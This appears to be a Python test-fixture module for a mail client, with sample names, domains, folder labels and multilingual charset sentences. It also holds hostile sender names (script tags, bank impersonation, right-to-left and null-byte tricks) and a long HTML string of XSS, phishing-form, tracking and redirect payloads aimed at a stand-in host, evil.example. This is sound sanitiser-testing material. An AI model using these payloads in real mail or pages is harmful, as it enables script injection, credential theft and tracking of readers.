"""Names, labels, foreign and hostile texts of generated mail."""

# ruff: noqa: RUF001 - foreign letters are the point

FIRST_NAMES = (
    "Alice", "Bernd", "Chloé", "Dmitri", "Esra", "Fatima", "Günther", "Hana", "Ilja", "Jörg",
    "Katarzyna", "Luís", "Mirjam", "Noor", "Øyvind", "Priya", "Quentin", "Rosa", "Søren", "Tomás",
)  # fmt: skip
LAST_NAMES = (
    "Abel", "Brandt", "Carvalho", "Dubois", "Eriksen", "Fischer", "Garcia", "Horvat", "Ivanova",
    "Jansen", "Kowalska", "Lindqvist", "Meyer", "Novak", "O'Brien", "Petrov", "Quispe", "Rossi",
)  # fmt: skip
DOMAINS = ("example.com", "example.org", "example.net", "mail.example", "firma.example")
LABELS = ("Projects", "Projects/Harbour", "Receipts", "Travel", "Family")

# (charset, transfer encoding, a sentence that needs it)
FOREIGN = (
    ("iso-8859-1", "quoted-printable", "Schöne Grüße aus München, das Café öffnet um zwölf Uhr."),
    ("windows-1252", "quoted-printable", "L’été arrive – le budget est de 1 500 €, « très bien »."),
    ("windows-1252", "8bit", "Die Rechnung beträgt 20 € – „bitte prüfen“."),
    ("koi8-r", "base64", "Добрый день, встреча переносится на пятницу."),
    ("gb18030", "base64", "您好，会议改到星期五下午三点。"),
    ("iso-2022-jp", "7bit", "お世話になっております。会議は金曜日です。"),
    ("utf-8", "8bit", "Ünïcödé straight through: naïve café ☕ 🚢."),
    ("utf-8", "base64", "שלום, הפגישה נדחתה ליום שישי. مرحبا بالعالم"),
)

HOSTILE_NAMES = (
    '"<script>alert(1)</script>" <x@evil.example>',
    '"admin@bank.example" <mallory@evil.example>',
    "=?utf-8?B?4oCuZWxwbWF4ZS5rbmFi?= <rtl@evil.example>",
    '"=?utf-8?Q?=3Cimg_src=3Dx_onerror=3Dalert=281=29=3E?=" <q@evil.example>',
    "Null\x00Byte <n@evil.example>",
)
HOSTILE_HTML = (
    "<p>Hello</p><script>parent.location='https://evil.example/'</script>"
    "<img src=x onerror=\"fetch('https://evil.example/')\">"
    '<a href="javascript:alert(1)">click</a><a href="https://evil.example/" target="_top">top</a>'
    '<form action="https://evil.example/login"><input name=password type=password></form>'
    "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example/p.png)}"
    ".antares-nav{position:fixed;inset:0}</style>"
    '<svg><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><math><mtext></style>'
    "<img src=y onerror=alert(3)></math><iframe srcdoc='<script>alert(4)</script>'></iframe>"
    '<img srcset="https://evil.example/a.png 1x" src="data:image/svg+xml,<svg onload=alert(5)>">'
    '<p style="background-image:url(https://evil.example/css.png)">styled</p>'
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">'
    '<object data="https://evil.example/o"></object><link rel=stylesheet href="//evil.example/c">'
)
